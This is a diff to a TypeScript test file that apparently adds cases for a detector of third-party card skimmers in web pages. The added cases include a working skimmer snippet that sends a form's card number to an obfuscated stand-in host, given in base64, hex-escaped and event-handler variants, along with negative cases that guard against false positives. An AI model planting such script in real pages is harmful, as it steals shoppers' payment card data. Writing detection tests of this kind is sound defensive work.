@@ -374,6 +374,48 @@ const RAW_CASES: CaseOf[] = [
   ),
 ];
 
+const TARGET = Buffer.from('https://cdn-metrics.example.org/c').toString('base64');
+const SKIMMER = `document.forms[0].onsubmit=function(){fetch(atob('${TARGET}'),{method:'POST',body:document.forms[0].cardNumber.value})};`;
+const ESCAPED = SKIMMER.replace(
+  /atob\('.*?'\)/,
+  () => String.raw`'\x68\x74\x74\x70\x73\x3a//cdn-metrics.example.org/c'`,
+);
+const SKIMMED = ['thirdparty-skimmer high'];
+const SKIMMER_CASES: CaseOf[] = [
+  start('a skimmer in a page', `${CARD}<script>${SKIMMER}</script>`, SKIMMED),
+  start('a skimmer with an address in escapes', `${CARD}<script>${ESCAPED}</script>`, SKIMMED),
+  start('a skimmer in a handler', `${CARD}<img src="x" onerror="${SKIMMER}">`, SKIMMED),
+  site(
+    'a skimmer in an own script',
+    { '/': page(`${CARD}${script('/app.js')}`), '/app.js': SKIMMER },
+    SKIMMED,
+  ),
+  start(
+    'a form that a program sends to a shown address',
+    `${CARD}<script>${SKIMMER.replace(/atob\('.*?'\)/, "'https://pay.example.org/'")}</script>`,
+    [],
+    {
+      guards: 'an address that everyone can read',
+    },
+  ),
+  start(
+    'a picture in Base64',
+    `${CARD}<script>${SKIMMER.replace(/atob\('.*?'\)/, "'/pay', { icon: 'aGVsbG8gd29ybGQhISE=' }")}</script>`,
+    [],
+    {
+      guards: 'Base64 that is not an address',
+    },
+  ),
+  start(
+    'a template with an escaped address',
+    `${CARD}<script>var url = "https:\\u002F\\u002Fapi.living.com\\u002Fv1?a=1\\u0026b=2"; fetch(url, { body: document.forms[0].cardNumber.value });</script>`,
+    [],
+    {
+      guards: 'JSON escapes signs',
+    },
+  ),
+];
+
 export const THIRD_PARTY_CASES: CaseOf[] = [
   start('none', '<p>Welcome</p>', []),
   {
@@ -393,4 +435,5 @@ export const THIRD_PARTY_CASES: CaseOf[] = [
   ...DEAD_CASES,
   ...FIELD_CASES,
   ...RAW_CASES,
+  ...SKIMMER_CASES,
 ];
